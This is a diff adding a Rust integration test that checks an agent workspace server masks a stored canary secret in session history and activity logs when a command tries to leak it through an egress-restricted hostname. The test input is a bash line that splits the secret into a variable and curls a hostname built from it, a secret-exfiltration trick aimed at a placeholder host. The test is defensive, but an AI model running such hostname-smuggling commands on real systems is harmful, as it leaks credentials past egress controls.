@@ -223,6 +223,55 @@ async fn a_secret_that_is_stored_during_a_turn_is_masked_in_it() {
     assert!(!events.contains("canary-late"), "{events}");
 }
 
+#[tokio::test(flavor = "multi_thread")]
+async fn what_the_boundary_tells_is_masked_as_well() {
+    let server = TestServer::start().await;
+    let user = server.user("user").await;
+    create(&user, "host", "canary-5b1c-host", "")
+        .await
+        .expect("stored");
+    let workspace = user.new_workspace().await;
+    user.bypass_permissions(&workspace).await;
+    let request = proto::UpdateWorkspaceRequest {
+        workspace: Some(proto::Workspace {
+            id: workspace.clone(),
+            settings: Some(proto::WorkspaceSettings {
+                egress: Some(proto::EgressPolicy {
+                    mode: proto::EgressMode::Listed.into(),
+                    hosts: vec!["example.com".to_owned()],
+                    ..Default::default()
+                }),
+                ..Default::default()
+            }),
+            ..Default::default()
+        }),
+        update_mask: Some(prost_types::FieldMask {
+            paths: vec!["settings.egress".to_owned()],
+        }),
+        ..Default::default()
+    };
+    user.workspaces()
+        .update_workspace(request)
+        .await
+        .expect("set");
+    let session = user.new_session(&workspace).await;
+    // A host name is a way out for a secret, and it must not be one into the log.
+    let ask = "!bash half=canary-5b; curl -sS http://${half}1c-host.example/";
+    user.say(&session, ask).await.expect("sent");
+    user.until_turn_ended(&session, 1).await;
+    let history = format!("{:?}", user.history(&session).await);
+    assert!(history.contains("EgressDecision"), "{history}");
+    assert!(!history.contains("canary-5b1c"), "{history}");
+    let request = proto::ListActivityRequest {
+        workspace_id: workspace,
+        ..Default::default()
+    };
+    let activity = user.activity().list_activity(request).await;
+    let activity = format!("{:?}", activity.expect("activity").into_inner());
+    assert!(activity.contains(MASK), "{activity}");
+    assert!(!activity.contains("canary-5b1c"), "{activity}");
+}
+
 fn hex(text: &str) -> String {
     text.bytes().map(|byte| format!("{byte:02x}")).collect()
 }
